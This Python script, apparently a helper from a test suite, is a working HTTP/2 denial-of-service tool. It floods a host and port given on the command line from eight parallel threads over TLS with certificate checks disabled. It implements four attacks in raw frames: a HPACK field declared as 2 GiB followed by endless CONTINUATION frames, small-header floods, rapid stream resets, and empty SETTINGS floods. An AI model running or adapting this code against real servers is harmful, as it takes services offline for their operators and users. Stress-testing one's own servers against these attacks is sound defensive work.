"""Attacks on HTTP/2 from raw sockets, by a client of TLS that shows no certificate.

As a program, `http2_attack.py KIND HOST PORT SECONDS` connects again and again with several connections at once, sends
as much as it can on each, and prints {"connections": N, "bytes": N, "answered": N} as JSON. `answered` counts
connections that received a frame of HTTP/2. It is a separate process because it keeps a core busy.
"""

import json
import socket
import ssl
import struct
import sys
import threading
import time

from http2_flood import CONTINUATION, END_HEADERS, HEADERS, SETTINGS, frame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
RST_STREAM = 3
PARALLEL = 8
CANCEL = struct.pack(">I", 8)

# HPACK (RFC 7541): ":method: POST", ":scheme: https", ":path: /", ":authority: a", and what gRPC asks for.
REQUEST = b"\x83\x87\x84\x01\x01a\x00\x0ccontent-type\x10application/grpc\x00\x02te\x08trailers"
# A field whose value is said to have 2 GiB: 127 and then the rest in pieces of seven bits.
HUGE_FIELD = b"\x00\x05x-abc\x7f" + b"\x81\xff\xff\xff\x07"
SMALL_FIELDS = b"\x00\x01a\x01b" * 3000


def _resets(first):
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(RST_STREAM, 0, stream, CANCEL)
        for stream in range(first, first + 2 * 500, 2))


def _endless(once, without_end):
    yield once
    while True:
        yield without_end


def _rapid_resets():
    first = 1
    while True:
        yield _resets(first)
        first += 2 * 500


KINDS = {
    "hpack-2gib": lambda: _endless(frame(HEADERS, 0, 1, REQUEST + HUGE_FIELD), frame(CONTINUATION, 0, 1, bytes(16384))),
    "small-headers": lambda: _endless(frame(HEADERS, 0, 1, REQUEST), frame(CONTINUATION, 0, 1, SMALL_FIELDS)),
    "rapid-reset": _rapid_resets,
    "empty-settings": lambda: _endless(b"", frame(SETTINGS, 0, 0) * 4096),
}


class Attack:
    """Counts over all of its threads."""

    def __init__(self, kind, address, seconds):
        self._kind = kind
        self._address = address
        self._end = time.monotonic() + seconds
        self._lock = threading.Lock()
        self.counts = {"connections": 0, "bytes": 0, "answered": 0}
        self._context = ssl.create_default_context()
        self._context.check_hostname = False
        self._context.verify_mode = ssl.CERT_NONE
        self._context.set_alpn_protocols(["h2"])

    def run(self):
        while time.monotonic() < self._end:
            try:
                with socket.create_connection(self._address, timeout=5) as plain:
                    with self._context.wrap_socket(plain) as connection:
                        self._count(connections=1)
                        self._send(connection)
            except OSError:
                pass  # refused or ended by the server

    def _send(self, connection):
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        for data in KINDS[self._kind]():
            if time.monotonic() > self._end:
                return
            connection.sendall(data)
            self._count(bytes=len(data))
            connection.setblocking(False)
            try:
                answer = connection.recv(9)
                self._count(answered=1 if answer else 0)
                if not answer:
                    return
            except ssl.SSLWantReadError:
                pass
            connection.settimeout(5)

    def _count(self, **counts):
        with self._lock:
            for name, count in counts.items():
                self.counts[name] += count


def main():
    kind, host, port, seconds = sys.argv[1:]
    attack = Attack(kind, (host, int(port)), float(seconds))
    threads = [threading.Thread(target=attack.run) for _ in range(PARALLEL)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps(attack.counts), flush=True)


if __name__ == "__main__":
    main()
